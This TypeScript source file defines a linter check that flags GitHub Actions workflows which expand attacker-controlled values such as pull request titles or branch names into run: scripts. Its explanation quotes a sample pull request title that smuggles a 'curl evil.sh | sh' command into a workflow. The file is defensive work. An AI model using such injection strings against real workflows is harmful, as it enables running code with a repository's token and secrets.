import { z } from 'zod';
import { defineCheck, fail, notApplicable, pass, type Evidence } from '../check.ts';
import { capped, count } from './support/facts.ts';
import { NO_WORKFLOWS } from './support/workflows.ts';

/**
 * Context values anyone who opens an issue or a pull request controls (GitHub's "untrusted input"
 * list): titles, bodies, comments, commit messages and authors, branch names, page names.
 */
const UNTRUSTED = [
  /\bgithub\.head_ref\b/,
  /\bgithub\.event\.(issue|pull_request|discussion)\.(title|body)\b/,
  /\bgithub\.event\.(comment|review|review_comment)\.body\b/,
  /\bgithub\.event\.pages\b\S*\.page_name\b/,
  /\bgithub\.event\.(head_commit|commits\b\S*?)\.(message|author\.(email|name))\b/,
  /\bgithub\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b/,
  /\bgithub\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))\b/,
];

export const noScriptInjection = defineCheck({
  id: 'no-script-injection',
  title: 'No untrusted input in workflow scripts',
  category: 'security',
  description:
    'No `run:` script (or `actions/github-script` script) expands an attacker-controlled value with `${{ }}`: issue and pull request titles and bodies, comments, commit messages, branch names.',
  why: [
    '`${{ }}` is pasted into the script before the shell runs it. A pull request titled `"; curl evil.sh | sh; echo "` then runs that command in your workflow, with its token and secrets.',
    'Anyone who can open an issue or a pull request controls these values (OpenSSF Scorecard, Dangerous-Workflow).',
  ].join(' '),
  fix: [
    'Pass the value through an environment variable and quote it; the shell then treats it as data:',
    '',
    '```yaml',
    '- name: Greet',
    '  env:',
    '    TITLE: ${{ github.event.pull_request.title }}',
    '  run: echo "Thanks for: $TITLE"',
    '```',
  ].join('\n'),
  effort: 'low',
  severity: 'error',
  options: z.object({}),
  needs: ['workflows'],
  run(context) {
    const { workflows } = context.facts;
    if (workflows.length === 0) return notApplicable(NO_WORKFLOWS);
    const injections: Evidence[] = workflows.flatMap((workflow) =>
      workflow.runExpressions
        .filter((expression) => UNTRUSTED.some((pattern) => pattern.test(expression.expression)))
        .map((expression) => ({
          path: workflow.path,
          line: expression.line,
          note: `\${{ ${expression.expression} }} in a ${expression.in === 'run' ? 'run: script' : 'github-script script'} (job ${expression.job})`,
        })),
    );
    if (injections.length > 0)
      return fail(
        `Workflow scripts expand untrusted input with \${{ }} in ${count(injections.length, 'place')}; pass it through env: instead.`,
        capped(injections),
      );
    return pass(`No workflow script expands untrusted input with \${{ }} (${count(workflows.length, 'workflow')} read).`);
  },
});
